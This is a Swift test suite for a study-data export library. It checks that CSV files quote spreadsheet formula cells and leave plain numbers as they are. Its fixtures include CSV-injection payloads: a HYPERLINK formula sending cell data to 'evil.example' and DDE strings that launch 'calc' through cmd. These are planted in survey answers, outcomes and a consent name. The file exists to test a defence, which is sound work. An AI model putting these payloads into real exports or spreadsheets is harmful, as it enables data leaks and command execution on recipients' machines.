import CareStore
import Consent
import Foundation
import Research
import Study
import StudyFHIR
import StudyKitEnvironment
import Testing

/// Exports are exact by default; for spreadsheets, every CSV file of every format quotes a cell a spreadsheet would run
/// as a formula, and leaves a plain number a number.
@Suite struct CSVCellStyleTests {
    let study: StudyDefinition
    let clock = TestClock(wallTime(2026, 5, 4, 9, 0, in: Zones.newYork))
    let uuids = CountingUUIDs()
    let store: InMemoryStudyStore
    let careStore: InMemoryCareStore
    let recorder = ConsentRecorder(signingKey: try! ConsentSigningKey(rawRepresentation: Data(repeating: 9, count: 32)))
    let root = FileManager.default.temporaryDirectory.appendingPathComponent("csv-cells-\(UUID().uuidString)", isDirectory: true)

    static let link = #"=HYPERLINK("https://evil.example/?d="&A1,"Click")"#
    static let other = "+1+cmd|' /C calc'!A0"
    static let sum = "@SUM(1+1)"
    static let signer = "-2+3+cmd|' /C calc'!A0"

    init() throws {
        study = try StudyLoader.load(folder: StudyFixtures.recover, surveyFormats: [FHIRSurveyFormat()])
        let clock = self.clock, uuids = self.uuids
        store = InMemoryStudyStore(environment: StudyKitEnvironment(now: { clock.now }, makeUUID: { uuids.make() }))
        careStore = InMemoryCareStore(environment: StudyKitEnvironment(now: { clock.now }, makeUUID: { uuids.make() }))
    }

    @Test(arguments: [
        ("=1+2", "'=1+2"), ("+1 555 0100", "'+1 555 0100"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("-", "'-"), ("-3 ", "'-3 "), ("-1,5", "'-1,5"), ("-inf", "'-inf"), ("-e5", "'-e5"),
        ("-3", "-3"), ("+3", "+3"), ("-2.5", "-2.5"), ("-.5", "-.5"), ("-2.5e-3", "-2.5e-3"), ("+1E+10", "+1E+10"),
        ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("3-1", "3-1"), ("knee", "knee"),
    ])
    func aCellASpreadsheetWouldRunGetsAQuoteAndAPlainNumberStaysAsItIs(cell: String, written: String) {
        #expect(CSVCellStyle.forSpreadsheets.written(cell) == written)
        #expect(CSVCellStyle.exact.written(cell) == cell)
    }

    /// Every cell of every CSV file under `folder`, by file.
    func cells(in folder: URL) throws -> [String: [String]] {
        var cells: [String: [String]] = [:]
        for case let path as String in FileManager.default.enumerator(atPath: folder.path)! where path.hasSuffix(".csv") {
            cells[path] = try CSVTestParser.rows(of: Data(contentsOf: folder.appendingPathComponent(path))).flatMap { $0 }
        }
        return cells
    }

    @Test func exportsAreExactByDefaultAndEveryCSVFileQuotesFormulasForSpreadsheets() async throws {
        defer { try? FileManager.default.removeItem(at: root) }
        let participant = try await store.enrol(invitationCode: nil, timeZone: Zones.newYork, language: "en")
        let clock = self.clock, uuids = self.uuids
        let plan = try await StudyEnrolment(study: study, environment: StudyKitEnvironment(now: { clock.now }, makeUUID: { uuids.make() }))
            .enrol(participantID: participant.id, enrolledAt: participant.enrolledAt, timeZone: Zones.newYork, into: careStore)
        // A survey answered with a formula as free text and as an "other" choice's text, and -3 as a number.
        let id = uuids.make()
        func step(_ identifier: String, _ question: QuestionResult) -> StepResult {
            StepResult(identifier: identifier, startDate: clock.now, endDate: clock.now, results: [.question(question)])
        }
        let result = TaskResult(identifier: "pain", taskRunUUID: id, startDate: clock.now, endDate: clock.now, stepResults: [
            step("painLevel", QuestionResult(identifier: "painLevel", type: .scale, answer: .number(-3))),
            step("painLocation", QuestionResult(identifier: "painLocation", type: .textChoice,
                                                answer: .choices([ChoiceSelection(.string("other"), text: Self.other)]))),
            step("notes", QuestionResult(identifier: "notes", type: .text, answer: .text(Self.link))),
        ])
        try await store.saveRun(TaskRun(id: id, participantID: participant.id, taskID: "pain", occurrence: 0, state: .completed, result: result))
        // Outcomes with a formula as text and a negative number.
        let pain = try #require(plan.tasks.first { $0.version.groupIdentifier == "pain" })
        _ = try await careStore.addOutcomes([Outcome(taskUUID: pain.version.uuid, occurrenceIndex: 0, values: [
            OutcomeValue(.text(Self.sum), kind: "note"), OutcomeValue(.integer(-3), kind: "change"),
        ], timeZone: Zones.newYork)])
        // A consent signed with a formula as the signer's name.
        let signature = ConsentRecordSignature(identifier: "participant", meaning: "consent to participate", givenName: Self.signer,
                                               familyName: "Doe", drawing: nil, signedAt: clock.now, timeZone: Zones.newYork)
        try await store.appendConsentRecord(try recorder.sealConsent(
            participantIdentifier: participant.id, studyIdentifier: "recover", studyName: "Recover", documentIdentifier: "recover-consent",
            documentVersion: "1.0", language: "en", html: "<!DOCTYPE html><p>I agree.</p>", signatures: [signature], answers: [:]))
        let reader = StudyExportReader(study: study, store: store, careStore: careStore, dataFolder: root.appendingPathComponent("data"),
                                       consentPublicKey: recorder.signingKey.publicKey, now: { clock.now })

        for style in CSVCellStyle.allCases {
            var all: [String: [String]] = [:]
            for format in StudyExportFormat.allCases where format.writesCSV {
                let out = root.appendingPathComponent("\(style.rawValue)/\(format.rawValue)", isDirectory: true)
                try await StudyExportFolder(url: out).replace(with: format.makeExporter(cells: style), reading: reader)
                let manifest = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent(StudyExportFolder.manifestFileName)))
                #expect((manifest as? [String: Any])?["cells"] as? String == (style == .exact ? nil : "for-spreadsheets"))
                for (file, cells) in try cells(in: out) { all["\(format.rawValue)/\(file)"] = cells }
            }
            #expect(Set(all.keys).isSuperset(of: ["csv-long/answers.csv", "csv-wide/wide/pain.csv", "csv-wide/data-dictionary.csv",
                                                   "outcomes/outcomes.csv", "consents/consents.csv"]))
            let expected: [String: [String]] = [
                "csv-long/answers.csv": [Self.link, Self.other, "-3"], "csv-wide/wide/pain.csv": [Self.link, Self.other, "-3"],
                "outcomes/outcomes.csv": [Self.sum, "-3"], "consents/consents.csv": [Self.signer + " Doe"],
            ]
            for (file, texts) in expected {
                for text in texts {
                    let written = style == .exact || CSVCellStyle.isPlainNumber(text) ? text : "'" + text
                    #expect(all[file]?.contains(written) == true, "\(style) \(file) holds \(written)")
                }
            }
            if style == .forSpreadsheets {
                // No cell of any file begins as a formula, unless it is a plain number.
                for (file, cells) in all {
                    for cell in cells {
                        guard let first = cell.unicodeScalars.first, CSVCellStyle.formulaStarts.contains(first) else { continue }
                        #expect(CSVCellStyle.isPlainNumber(cell), "\(file): \(cell)")
                    }
                }
            }
        }
    }
}
